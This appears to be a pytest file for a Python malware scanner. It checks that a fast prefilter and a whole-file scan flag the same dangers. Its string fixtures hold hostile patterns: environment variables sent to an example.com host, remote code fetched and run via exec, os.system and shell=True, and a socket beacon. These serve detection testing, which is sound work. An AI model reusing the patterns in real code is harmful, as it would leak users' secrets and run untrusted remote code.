"""The prefilter against the whole-file pass on real trees: the same danger, file by file.

tests/_scan/test_triggers.py holds the prefilter to every table entry and every
rule's worked example; here the inputs are real code, where the fast paths
(focus lines of local hits, the statements around every hit of a large file,
a pattern several pairs share located once, the names a hit line binds
followed to their uses) meet long files, classes and aliases defined far from
their use: a slice of the standard library that needs the AST (read where the
running interpreter keeps it, never written), and every tuned malware sample of
benchmarks/malware/tune (the holdout stays unread: it is written blind to the
rules). Each is scanned in package mode as ``caplet scan`` does, and again
with the prefilter answering "the whole file"; every DANGER finding (rule,
file, line) must be the same.
"""

from __future__ import annotations

import sysconfig
from pathlib import Path

import pytest

from caplet._scan import _filepass
from caplet._scan._prefilter import Need, prefilter
from tests._scan.prefilterkit import (
    WholeFile,
    kept_by_the_prefilter,
    text_both_ways,
    tree_both_ways,
    tree_danger,
)

TUNE = Path(__file__).resolve().parents[2] / "benchmarks" / "malware" / "tune"
STDLIB = Path(sysconfig.get_paths()["stdlib"])
#: Standard-library modules that need the AST in package mode, each by a different
#: path: local focus lines (exec/eval calls, lookups by name), the focus around every
#: hit of a large file (network, processes, decoders, the interpreter run again),
#: names bound on a hit line and used far below.
STDLIB_SLICE = (
    "subprocess.py",
    "socket.py",
    "shutil.py",
    "platform.py",
    "webbrowser.py",
    "zipimport.py",
    "urllib/request.py",
    "http/server.py",
    "smtplib.py",
    "ftplib.py",
    "imaplib.py",
    "modulefinder.py",
    "collections/__init__.py",
    "dataclasses.py",
    "tarfile.py",
    "importlib/_bootstrap_external.py",
)


@pytest.mark.parametrize("relative", STDLIB_SLICE)
def test_a_standard_library_module_has_the_same_danger_either_way(
    relative: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = STDLIB / relative
    if not path.is_file():  # an interpreter installed without its sources
        pytest.skip(f"{path} is not there")
    text = path.read_text(encoding="utf-8")
    # the slice is there to exercise the fast paths: each one takes one
    assert prefilter().check(text) is not Need.FULL or len(text) <= 12_000
    filtered, whole = text_both_ways(text, relative, monkeypatch)
    assert filtered == whole


def test_every_tuned_sample_has_the_same_danger_either_way(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    samples = sorted(p for p in TUNE.iterdir() if p.is_dir())
    assert len(samples) > 150
    filtered = {s.name: tree_danger(s) for s in samples}
    with monkeypatch.context() as patch:
        patch.setattr(_filepass, "prefilter", WholeFile)
        whole = {s.name: tree_danger(s) for s in samples}
    assert sum(bool(d) for d in whole.values()) > 150  # the samples are flagged at all
    assert {n: d for n, d in filtered.items() if d != whole[n]} == {}


#: The shape of psutil's tests/__init__.py (issue 16): a host fact (the working
#: directory) bound inside one function, carried by parameters and returns of this
#: file's functions, through call sites no hit line holds, into a connect in
#: another; a fixed host elsewhere makes it a beacon. ``{store}``, ``{module}`` and
#: ``{use}`` are how the value travels between the two last hops.
_HOPS = """\
import os
import socket
import tempfile

PATHS = []


class CONFIG:
    where = ""


def get_name(suffix="", dir=None):
    name = tempfile.mktemp(suffix=suffix, dir=dir)
    return name


def here_name():
    return get_name(dir=os.getcwd())


def keep(path):
    {store}


def open_pair(name):
    client = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    client.connect({use})
    return client


def beacon():
    return socket.create_connection(("203.0.113.7", 443))


def main():
    fname = here_name()
    keep(fname)
    return open_pair(fname)


{module}
"""
#: Code with no threat token, so that the file is large and the prefilter focuses.
_PADDING = "".join(
    f"\n\ndef unrelated_{i}(values):\n    total = 0\n    for value in values:\n"
    f"        total += value * {i}\n    return total\n"
    for i in range(160)
)


@pytest.mark.parametrize(
    ("store", "module", "use"),
    [
        # the parameter is filled by main()'s call, outside the focus
        ("return path", "main()", "name"),
        # an attribute set in a function outside the focus
        ("CONFIG.where = path", "main()", "CONFIG.where"),
        # a module-level list filled outside the focus
        ("return path", "PATHS.append(here_name())", "PATHS[0]"),
    ],
    ids=["call-site", "attribute-store", "filling-method"],
)
def test_data_flow_through_functions_outside_the_focus_is_followed(
    store: str, module: str, use: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    text = _HOPS.format(store=store, module=module, use=use) + _PADDING
    assert len(text) > 12_000
    need = prefilter().check(text)
    connect = next(n for n, line in enumerate(text.splitlines(), 1) if ".connect(" in line)
    # the fast path is taken, the connect is in its focus, the call sites are not
    assert isinstance(need, frozenset)
    assert connect in need
    assert not {n for n, line in enumerate(text.splitlines(), 1) if "keep(" in line} & need
    filtered, whole = text_both_ways(text, "pkg/tests/__init__.py", monkeypatch)
    assert ("CPL-THR-017", connect) in whole
    assert filtered == whole


#: A sink called where no focus line is (attack6): the egress or process call says
#: nothing the prefilter locates (``requests.get``, a session's ``.get``, an API
#: imported under another name), the source that makes it a threat is far above it.
_FAR_SINKS = {
    "requests-get": (
        "import os\nimport requests\n\ndata = dict(os.environ)\n",
        "requests.get('https://example.com/c', params=data)\n",
        "CPL-THR-006",
    ),
    "session-get": (
        "import os\nimport requests\n\nsession = requests.Session()\ndata = dict(os.environ)\n",
        "def send():\n    session.get('https://example.com/c', params=data)\n\n\nsend()\n",
        "CPL-THR-006",
    ),
    "egress-imported-as": (
        "import os\nfrom httpx import get as fetch\n\ndata = dict(os.environ)\n",
        "fetch('https://example.com/c', params=data)\n",
        "CPL-THR-006",
    ),
    "process-imported-as": (
        "import requests\nfrom subprocess import check_output as co\n\n"
        "code = requests.get('https://example.com/x').text\n",
        "co(code, shell=True)\n",
        "CPL-THR-002",
    ),
    "process-from-a-dispatch-table": (
        "import os\nimport requests\n\nHANDLERS = {'run': os.system}\n"
        "code = requests.get('https://example.com/x').text\n",
        "HANDLERS['run'](code)\n",
        "CPL-THR-002",
    ),
}


@pytest.mark.parametrize("shape", sorted(_FAR_SINKS))
def test_a_sink_called_outside_the_focus_of_a_large_file_is_checked(
    shape: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    head, sink, rule = _FAR_SINKS[shape]
    text = head + _PADDING + "\n\n" + sink
    assert len(text) > 12_000
    # the sink's own line: the one that passes what the source bound
    line = text.count("\n", 0, text.index(", params=data)" if "params" in sink else "(code")) + 1
    need = prefilter().check(text)
    # the fast path is taken and the sink's line is none of its focus lines
    assert isinstance(need, frozenset)
    assert line not in need
    (tmp_path / "pkg").mkdir()
    (tmp_path / "pkg" / "client.py").write_text(text, encoding="utf-8")
    filtered, whole = tree_both_ways(tmp_path, monkeypatch)
    assert (rule, "pkg/client.py", line) in whole
    assert filtered == whole


# -- recall18: a download written to a file on one line, the file run on another ----------

_WRITTEN_AND_RUN = {
    "write-then-exec": (
        "import requests\n\nP = '/tmp/patch.py'\n\n"
        "def refresh(u):\n    open(P, 'wb').write(requests.get(u).content)\n",
        "def apply():\n    exec(open(P).read())\n",
    ),
    "bound-then-written": (
        "import requests\n\nP = '/tmp/patch.py'\n"
        "DATA = requests.get('https://cdn.example/p.py').content\n"
        "with open(P, 'wb') as fh:\n    fh.write(DATA)\n",
        "exec(compile(open(P).read(), P, 'exec'))\n",
    ),
    "write-then-run-path": (
        "import runpy\nimport urllib.request\n\nP = '/tmp/patch.py'\n"
        "open(P, 'wb').write(urllib.request.urlopen('https://cdn.example/p.py').read())\n",
        "runpy.run_path(P)\n",
    ),
}


@pytest.mark.parametrize("large", [False, True], ids=["small", "large"])
@pytest.mark.parametrize("shape", sorted(_WRITTEN_AND_RUN))
def test_a_download_written_and_run_from_the_file_is_kept_by_the_prefilter(
    shape: str, large: bool, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    head, run = _WRITTEN_AND_RUN[shape]
    text = head + (_PADDING if large else "") + "\n\n" + run
    kept_by_the_prefilter(tmp_path, monkeypatch, text)
    assert "CPL-THR-002" in {rule for rule, _, _ in tree_danger(tmp_path)}


def test_a_version_file_run_beside_a_download_written_stays_clean(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # a package's own version module run by exec, and a download saved to a cache file
    # that nothing runs: no stage, either way
    text = (
        "import requests\n\nABOUT = {}\nexec(open('pkg/__about__.py').read(), ABOUT)\n\n"
        "def fetch(u, p):\n    open(p, 'wb').write(requests.get(u).content)\n"
    )
    (tmp_path / "mod.py").write_text(text, encoding="utf-8")
    assert tree_both_ways(tmp_path, monkeypatch) == ([], [])
